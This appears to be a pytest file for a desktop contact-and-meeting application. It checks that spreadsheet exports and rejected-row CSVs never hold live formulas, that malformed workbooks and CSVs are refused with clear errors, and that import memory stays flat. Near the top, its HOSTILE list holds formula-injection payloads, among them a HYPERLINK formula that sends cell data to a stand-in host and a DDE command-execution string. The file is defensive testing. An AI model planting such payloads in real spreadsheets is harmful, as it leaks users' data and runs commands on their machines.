"""Hostile spreadsheets and what is written to them (issue 23, items 12–14): no formula ever
reaches a workbook or a CSV this application writes, every malformed workbook or CSV is
refused with a sentence naming the cell or the row, and memory stays flat however long the
sheet is."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
import tracemalloc
import zipfile
from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kankei_desktop.core.cell_text import TRIGGERS
from kankei_desktop.core.i18n import set_language
from kankei_desktop.core.services import Services
from kankei_desktop.core.services.clubs import ClubDraft
from kankei_desktop.core.services.meetings import MeetingDraft
from kankei_desktop.core.services.organizations import OrganizationDraft
from kankei_desktop.core.services.people import PersonDraft
from kankei_desktop.core.storage.database import open_database
from kankei_desktop.imports import importer
from kankei_desktop.imports.importer import analyse, run_import
from kankei_desktop.imports.reading import ImportFileError
from kankei_desktop.reports.excel import build_workbook

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"詳細")'
HOSTILE = [HYPERLINK, "+81 90 1234 5678", "-2+3", "@SUM(1+1)", "＝1+1", "=cmd|' /C calc'!A0"]


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, KANKEI_LANG="en")
    return subprocess.run([sys.executable, "-m", "kankei_desktop.commands.cli", "--lang", "en",
                           *args], capture_output=True, text=True, cwd=ROOT, env=env,
                          timeout=300, check=False)


def one_sentence(err: str) -> bool:
    return bool(err.strip()) and err.strip().count("\n") == 0 and "Traceback" not in err \
        and "unexpected" not in err


# --- item 12: no formulas written ---------------------------------------------------------


def test_the_excel_export_writes_text_that_looks_like_a_formula_as_text(
        services: Services) -> None:
    town = services.organizations.create(OrganizationDraft(kind="company", name=HOSTILE[3]))
    club = services.clubs.create(ClubDraft(name=HOSTILE[0]))
    meeting = services.meetings.create(MeetingDraft(
        club_id=club.id, title=HOSTILE[2], date=date(2021, 6, 1), status="held",
        place=HOSTILE[5]))
    for index, name in enumerate(HOSTILE):
        person = services.people.create(PersonDraft(
            family_name=name, given_name=str(index), family_reading="やまだ",
            job_title=HOSTILE[1],
            organization_id=town.id))
        services.attendance.set(meeting.id, person.id)
    data = build_workbook(services, 2021)
    archive = zipfile.ZipFile(__import__("io").BytesIO(data))
    assert not any("<f>" in archive.read(name).decode() for name in archive.namelist()
                   if name.startswith("xl/worksheets/"))  # no formula anywhere
    book = load_workbook(__import__("io").BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), cell.value
                    texts.append(cell.value)
    for hostile in (HYPERLINK, "-2+3", "@SUM(1+1)"):
        assert any(text.endswith(hostile) or hostile in text for text in texts), hostile


def test_the_rejected_rows_file_never_holds_a_live_formula_and_imports_back_as_typed(
        services: Services, tmp_path: Path) -> None:
    sheet = tmp_path / "people.csv"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["氏名", "メール", "備考"])
        writer.writerow(["山田 太郎", "taro@example.jp", "正常"])
        writer.writerow([HYPERLINK, "not-an-address", "=1+1"])
        writer.writerow(["+佐藤 花子", "hanako@example.jp", "-メモ"])
    summary = run_import(services, analyse(sheet), skip_invalid=True)
    assert summary.rejects_path is not None
    with summary.rejects_path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[1][2] == "'=1+1"
    rows[1][1] = "corrected@example.jp"  # the user corrects the row and imports the file
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([rows[0][:3], rows[1][:3]])
    run_import(services, analyse(fixed))
    names = {person.family_name: person for person in services.people.find()}
    assert "+佐藤" in names  # typed so, imported so
    restored = [person for person in services.people.find()
                if person.email == "corrected@example.jp"]
    assert restored[0].family_name + " " + restored[0].given_name == HYPERLINK \
        or restored[0].family_name.startswith("=HYPERLINK")
    assert restored[0].notes == "=1+1"


# --- item 13: malformed workbooks and CSVs --------------------------------------------------


def _workbook(path: Path) -> Path:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["氏名", "メール"])
    sheet.append(["山田 太郎", "taro@example.jp"])
    sheet.append(["佐藤 花子", "hanako@example.jp"])
    book.save(path)
    return path


def _rewrite_sheet(path: Path, change: object) -> Path:
    """``path`` with its first sheet's XML passed through ``change``."""
    target = path.with_name("hostile-" + path.name)
    with zipfile.ZipFile(path) as source, zipfile.ZipFile(target, "w") as output:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = change(data.decode()).encode()  # type: ignore[operator]
            output.writestr(info, data)
    return target


@pytest.mark.parametrize(("name", "change", "words"), [
    ("bad shared string index",
     lambda xml: re.sub(r'<c r="A3"[^>]*>.*?</c>', '<c r="A3" t="s"><v>999</v></c>', xml),
     ["A3", "999"]),
    ("cell far outside the grid",
     lambda xml: xml.replace('r="B2"', 'r="ZZZZZZZZ99999999"'), ["ZZZZZZZZ"]),
    ("row number outside the grid",
     lambda xml: xml.replace('<row r="3"', '<row r="99999999999"'), ["99999999999"]),
    ("number that is not one",
     lambda xml: re.sub(r'<c r="B3"[^>]*>.*?</c>', '<c r="B3"><v>十二</v></c>', xml),
     ["B3"]),
    ("broken xml", lambda xml: xml[: len(xml) // 2], ["XML"]),
])
def test_a_malformed_workbook_is_refused_naming_what_is_wrong(
        tmp_path: Path, name: str, change: object, words: list[str]) -> None:
    hostile = _rewrite_sheet(_workbook(tmp_path / "people.xlsx"), change)
    result = cli("--db", str(tmp_path / "k.sqlite3"), "import", str(hostile))
    assert result.returncode == 1, name
    assert one_sentence(result.stderr), (name, result.stderr)
    for word in words:
        assert word in result.stderr, (name, result.stderr)


def test_a_nul_byte_in_a_csv_is_refused_with_its_row(tmp_path: Path) -> None:
    set_language("en")
    sheet = tmp_path / "people.csv"
    sheet.write_bytes("氏名,メール\n山田 太郎,t@example.jp\n山\x00田 次郎,j@example.jp\n"
                      .encode())
    with pytest.raises(ImportFileError) as refused:
        analyse(sheet)
    assert "Row 3" in refused.value.message
    assert "NUL" in refused.value.message


def test_an_unclosed_quote_is_refused_with_its_row_not_folded_into_a_name(
        tmp_path: Path) -> None:
    set_language("en")
    sheet = tmp_path / "people.csv"
    sheet.write_text('氏名,メール\n山田 太郎,t@example.jp\n"佐藤 花子,h@example.jp\n'
                     "鈴木 一郎,i@example.jp\n", encoding="utf-8")
    with pytest.raises(ImportFileError) as refused:
        analyse(sheet)
    assert "Row 3" in refused.value.message
    assert "quotation mark" in refused.value.message


def test_other_control_characters_are_refused_row_by_row(tmp_path: Path) -> None:
    set_language("en")
    sheet = tmp_path / "people.csv"
    sheet.write_text("氏名,メール\n山田 太郎,t@example.jp\n佐藤\x07花子,h@example.jp\n",
                     encoding="utf-8")
    issues = analyse(sheet).validation.issues
    assert [(issue.row, issue.column) for issue in issues] == [(3, "氏名")]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_pipe_named_like_a_csv_is_refused_at_once(tmp_path: Path) -> None:
    pipe = tmp_path / "people.csv"
    os.mkfifo(pipe)
    result = cli("--db", str(tmp_path / "k.sqlite3"), "import", str(pipe))
    assert result.returncode == 1
    assert one_sentence(result.stderr), result.stderr


# --- item 14: memory flat in the sheet's length -------------------------------------------


def _attendance_sheet(path: Path, rows: int) -> Path:
    """``rows`` rows: 200 people at sessions of 5 clubs (a real programme's shape)."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["日付", "クラブ", "セッション", "氏名", "ふりがな", "メール", "備考"])
        for index in range(rows):
            session = index // 40
            writer.writerow([f"{date(2021, 4, 1) + timedelta(days=session):%Y/%m/%d}",
                             f"クラブ{session % 5}", f"第{session}回", f"参加者 {index % 200}",
                             "さんか しゃ", f"p{index % 200}@example.jp", "メモ" * 40])
    return path


def _peak_import(tmp_path: Path, rows: int) -> int:
    sheet = _attendance_sheet(tmp_path / f"a{rows}.csv", rows)
    database = open_database(tmp_path / f"k{rows}.sqlite3")
    try:
        services = Services(database)
        tracemalloc.start()
        summary = run_import(services, analyse(sheet))
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert summary.attendance == rows
    finally:
        database.close()
    return peak


def test_importing_a_four_times_longer_sheet_takes_about_the_same_memory(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(importer, "CHUNK_ROWS", 500, raising=False)
    small = _peak_import(tmp_path, 2_000)
    large = _peak_import(tmp_path, 8_000)
    assert large < small * 1.5, (small, large)


def test_the_file_is_read_again_not_kept(tmp_path: Path) -> None:
    sheet = _attendance_sheet(tmp_path / "a.csv", 1_000)
    analysis = analyse(sheet)
    assert len(analysis.sheet.rows) <= 201  # the head, for the header and the preview
    assert analysis.validation.valid == 1_000
    copy = tmp_path / "copy.csv"
    shutil.copy(sheet, copy)
    assert analysis.data_rows == 1_000
